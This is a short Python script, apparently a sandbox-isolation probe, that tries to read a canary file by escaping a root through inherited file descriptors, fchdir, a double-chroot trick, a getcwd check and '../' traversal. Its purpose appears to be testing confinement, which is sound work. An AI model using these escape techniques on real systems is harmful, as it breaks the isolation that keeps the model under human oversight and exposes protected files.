# Break out of a root that was only changed, not left.
import os

secret = WORLD["canary_file"]
UP = "../" * 40


def read(path, folder=None):
    fd = os.open(path, os.O_RDONLY, dir_fd=folder)
    try:
        return os.read(fd, 100)
    finally:
        os.close(fd)


def inherited():
    for fd in range(3, 1024):
        try:
            return read(UP + secret.lstrip("/"), fd)
        except OSError:
            continue
    return None


def through_inherited():
    for fd in range(3, 1024):
        try:
            os.fchdir(fd)
        except OSError:
            continue
        try:
            return read(UP + secret.lstrip("/"))
        except OSError:
            continue
        finally:
            os.chdir("/workspace/output")
    return None


def out_of_jail(keep):
    child = os.fork()
    if child:
        code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        if code != 0:
            raise OSError(abs(code), os.strerror(abs(code)))
        return "out"
    try:
        os.makedirs("jail", exist_ok=True)
        folder = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        os.chroot("jail")  # the working directory is outside now
        if keep:
            os.chdir("/")
            os.fchdir(folder)
        for _ in range(40):
            os.chdir("..")
        os.chroot(".")
        os._exit(0 if read(secret) else 250)
    except OSError as error:
        os._exit(min(error.errno, 250))


def unreachable():
    # A working directory outside the root is told with this prefix.
    buffer = _ctypes.create_string_buffer(4096)
    syscall(79, buffer, 4096)
    return buffer.value.startswith(b"(unreachable)")


attempt("dirfd", inherited)
attempt("fchdir", through_inherited)
attempt("chroot", out_of_jail, False)
attempt("chroot_fchdir", out_of_jail, True)
attempt("cwd", unreachable)
attempt("dotdot", read, UP + secret.lstrip("/"))
